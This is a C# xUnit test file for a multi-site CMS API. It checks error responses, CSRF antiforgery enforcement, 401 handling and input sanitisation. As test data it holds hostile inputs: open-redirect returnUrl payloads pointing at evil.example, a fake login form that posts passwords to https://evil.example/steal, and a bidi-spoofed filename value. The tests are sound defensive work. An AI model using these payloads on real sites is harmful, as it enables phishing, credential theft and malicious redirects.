using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Outreach.Core.Security;
using Outreach.Pages;
using Outreach.Tests.Infrastructure;

namespace Outreach.Tests.Security;

public sealed class RequestSafetyFixture() : SitesFixture("portal", "alpha");

/// <summary>
/// Bad input answers 400 with problem details naming the field (issue 12, item 7), cookie-authenticated unsafe
/// requests need an antiforgery token, 401 says how to authenticate, rich text loses forms, single-line fields
/// stay one line (item 8).
/// </summary>
public sealed class RequestSafetyTests(RequestSafetyFixture fixture) : IClassFixture<RequestSafetyFixture>
{
    OutreachFactory App => fixture.App;

    async Task<HttpClient> TokenClientAsync()
    {
        var client = App.CreatePlainClient();
        client.DefaultRequestHeaders.Authorization = new("Bearer", await App.CreateTokenAsync("alpha", SiteRole.Editor));
        return client;
    }

    static StringContent Json(string json) => new(json, Encoding.UTF8, "application/json");

    [Theory]
    [InlineData("""{ "title": "数字标题", "publish": "yes" }""", "publish")]    // a string where a boolean belongs
    [InlineData("""{ "title": 42 }""", "title")]                                // a number where a string belongs
    [InlineData("""{ "title": ["一", "二"] }""", "title")]                      // an array where a string belongs
    [InlineData("""["not", "an", "object"]""", "body")]                         // an array where an object belongs
    [InlineData("""{ "title": "未写完的 JSON" """, "body")]                     // malformed
    public async Task Json_that_does_not_bind_is_a_400_problem_naming_the_field(string json, string field)
    {
        var api = await TokenClientAsync();
        using var response = await api.PostAsync("/alpha/api/v1/admin/pages", Json(json));
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
        Assert.Equal("请求格式有误", problem.GetProperty("title").GetString());
        Assert.True(problem.GetProperty("errors").TryGetProperty(field, out var messages), problem.ToString());
        Assert.NotEmpty(messages.EnumerateArray().Single().GetString()!);
        Assert.DoesNotContain("System.", problem.ToString()); // no .NET type names
    }

    [Fact]
    public async Task A_string_where_a_number_belongs_names_that_field()
    {
        var api = await TokenClientAsync();
        using var response = await api.PutAsync("/alpha/api/v1/admin/pages/1", Json("""{ "title": "标题", "revision": "zero" }"""));
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
        Assert.True(problem.GetProperty("errors").TryGetProperty("revision", out _), problem.ToString());
    }

    [Theory]
    [InlineData("%09")]
    [InlineData("/%09/evil.example")]
    [InlineData("/%0d%0a/evil.example")]
    [InlineData("//evil.example")]
    [InlineData("/%5Cevil.example")]
    [InlineData("https://evil.example/")]
    [InlineData("%2F%2Fevil.example")]
    public async Task Culture_switch_with_a_bad_return_url_redirects_home_never_elsewhere(string returnUrl)
    {
        using var response = await App.CreatePlainClient().GetAsync($"/alpha/culture/en?returnUrl={returnUrl}");
        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.Equal("/alpha/", response.Headers.Location?.OriginalString);
    }

    [Fact]
    public async Task Culture_switch_keeps_a_good_return_url()
    {
        using var response = await App.CreatePlainClient().GetAsync("/alpha/culture/en?returnUrl=/alpha/news");
        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.Equal("/alpha/news", response.Headers.Location?.OriginalString);
    }

    [Fact]
    public async Task Unauthenticated_api_calls_get_401_with_www_authenticate_and_a_problem()
    {
        using var anonymous = await App.CreatePlainClient().GetAsync("/alpha/api/v1/admin/pages");
        Assert.Equal(HttpStatusCode.Unauthorized, anonymous.StatusCode);
        Assert.Equal("Bearer", Assert.Single(anonymous.Headers.WwwAuthenticate).Scheme);
        Assert.Equal("application/problem+json", anonymous.Content.Headers.ContentType?.MediaType);

        var badToken = App.CreatePlainClient();
        badToken.DefaultRequestHeaders.Authorization = new("Bearer", "otk_not-a-real-token");
        using var refused = await badToken.GetAsync("/alpha/api/v1/admin/pages");
        Assert.Equal(HttpStatusCode.Unauthorized, refused.StatusCode);
        Assert.Contains("invalid_token", Assert.Single(refused.Headers.WwwAuthenticate).Parameter);
    }

    [Fact]
    public async Task A_signed_in_browser_needs_an_antiforgery_token_for_api_writes_and_a_bearer_script_does_not()
    {
        await App.CreateUserAsync("csrf-editor@example.cn", false, ("alpha", SiteRole.Editor));
        var browser = await App.SignedInClientAsync("csrf-editor@example.cn");
        var before = await App.WithSiteAsync("alpha", db => db.Set<Page>().CountAsync());

        // What a page on another site could make the browser send: the cookie goes along, no token.
        using var forged = await browser.PostAsJsonAsync("/alpha/api/v1/admin/pages", new { title = "跨站伪造的页面" });
        Assert.Equal(HttpStatusCode.BadRequest, forged.StatusCode);
        Assert.Contains("防伪令牌", await forged.Content.ReadAsStringAsync());
        using var empty = await browser.PutAsync("/alpha/api/v1/admin/pages/1", null); // no body at all
        Assert.Equal(HttpStatusCode.BadRequest, empty.StatusCode);
        Assert.Contains("防伪令牌", await empty.Content.ReadAsStringAsync());
        Assert.Equal(before, await App.WithSiteAsync("alpha", db => db.Set<Page>().CountAsync()));

        // The site's own pages carry the token; sent as X-CSRF-TOKEN it lets the same write through.
        var token = People.Antiforgery(await browser.GetStringAsync("/alpha/admin/content/page/edit"));
        using var request = new HttpRequestMessage(HttpMethod.Post, "/alpha/api/v1/admin/pages") { Content = JsonContent.Create(new { title = "带令牌的页面" }) };
        request.Headers.Add("X-CSRF-TOKEN", token);
        using var allowed = await browser.SendAsync(request);
        Assert.Equal(HttpStatusCode.Created, allowed.StatusCode);

        // A script with a bearer token is never a browser acting on its own.
        using var script = await (await TokenClientAsync()).PostAsJsonAsync("/alpha/api/v1/admin/pages", new { title = "脚本页面" });
        Assert.Equal(HttpStatusCode.Created, script.StatusCode);
    }

    [Fact]
    public async Task Rich_text_loses_forms_and_form_controls_when_shown()
    {
        var api = await TokenClientAsync();
        const string body = "<p>会员请重新登录：</p><form action=\"https://evil.example/steal\" method=\"post\"><label>密码</label>"
            + "<input name=\"password\" type=\"password\"><select name=\"s\"><option>一</option></select><textarea name=\"t\"></textarea>"
            + "<button type=\"submit\">登录</button></form><p>正文继续。</p>";
        using var created = await api.PostAsJsonAsync("/alpha/api/v1/admin/pages", new { title = "带表单的页面", slug = "form-bait", body, publish = true });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var (status, html) = await App.CreatePlainClient().FetchAsync("/alpha/pages/form-bait");
        Assert.Equal(200, status);
        var article = html[html.IndexOf("会员请重新登录", StringComparison.Ordinal)..];
        Assert.Contains("正文继续。", article);
        foreach (var tag in new[] { "<form", "<input name=\"password\"", "<button type=\"submit\">登录", "<select", "<textarea", "evil.example" })
            Assert.DoesNotContain(tag, article);
    }

    [Fact]
    public async Task Single_line_fields_turn_line_breaks_into_spaces_and_refuse_control_characters()
    {
        var api = await TokenClientAsync();
        using var created = await api.PostAsJsonAsync("/alpha/api/v1/admin/pages", new { title = "第一行\r\n第二行\t结束", slug = "two-lines" });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        Assert.Equal("第一行 第二行 结束", await App.WithSiteAsync("alpha", db => db.Set<Page>().Where(p => p.Slug == "two-lines").Select(p => p.Title).SingleAsync()));

        using var bell = await api.PostAsJsonAsync("/alpha/api/v1/admin/pages", new { title = "响铃\u0007标题", slug = "bell" });
        Assert.Equal(HttpStatusCode.BadRequest, bell.StatusCode);
        var problem = JsonDocument.Parse(await bell.Content.ReadAsStringAsync()).RootElement;
        Assert.Contains("控制字符", problem.GetProperty("errors").GetProperty("title")[0].GetString());
        using var bidi = await api.PostAsJsonAsync("/alpha/api/v1/admin/pages", new { title = "invoice\u202Efdp.exe", slug = "bidi" });
        Assert.Equal(HttpStatusCode.BadRequest, bidi.StatusCode);
        Assert.False(await App.WithSiteAsync("alpha", db => db.Set<Page>().AnyAsync(p => p.Slug == "bell" || p.Slug == "bidi")));
    }
}
